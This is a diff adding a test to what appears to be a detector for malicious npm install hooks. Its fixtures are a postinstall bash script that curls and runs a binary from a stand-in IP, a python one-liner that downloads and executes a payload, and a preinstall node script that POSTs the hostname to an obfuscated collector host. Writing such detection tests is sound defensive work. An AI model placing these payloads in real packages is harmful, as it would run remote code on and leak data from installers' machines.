@@ -75,6 +75,28 @@ describe('install hooks that run scripts', () => {
     expect(r.risk_level).toBe('critical');
   });
 
+  it('attacker rewrites: a shell function wrapping curl, a python -c one-liner, node run on a folder', () => {
+    const viaFunction = analyzeSource({
+      'package.json': pkg({ postinstall: 'bash ./scripts/post.sh' }),
+      'scripts/post.sh':
+        '#!/usr/bin/env bash\nget() { curl -fsSL "$1" -o "$2"; }\nget http://203.0.113.8/p /tmp/.p\nchmod +x /tmp/.p && /tmp/.p &\n',
+    });
+    expect(viaFunction.risk_level).toBe('critical');
+    const oneLiner = analyzeSource({
+      'package.json': pkg({
+        install:
+          "python3 -c \"import urllib.request,os;open('/tmp/x','wb').write(urllib.request.urlopen('http://203.0.113.3/x').read());os.system('chmod +x /tmp/x; /tmp/x')\"",
+      }),
+    });
+    expect(oneLiner.risk_level).toBe('critical');
+    const folder = analyzeSource({
+      'package.json': pkg({ preinstall: 'node setup' }),
+      'setup/index.js':
+        "const t = ['collector', 'example'].join('.');\nrequire('https').request({ host: t, method: 'POST' }).end(require('os').hostname());\n",
+    });
+    expect(folder.risk_level).toBe('critical');
+  });
+
   it('a build script that runs tsc and copies files is not flagged', () => {
     const r = analyzeSource({
       'package.json': pkg({ prepare: 'sh build.sh', postinstall: 'node -e "console.log(1)"' }),
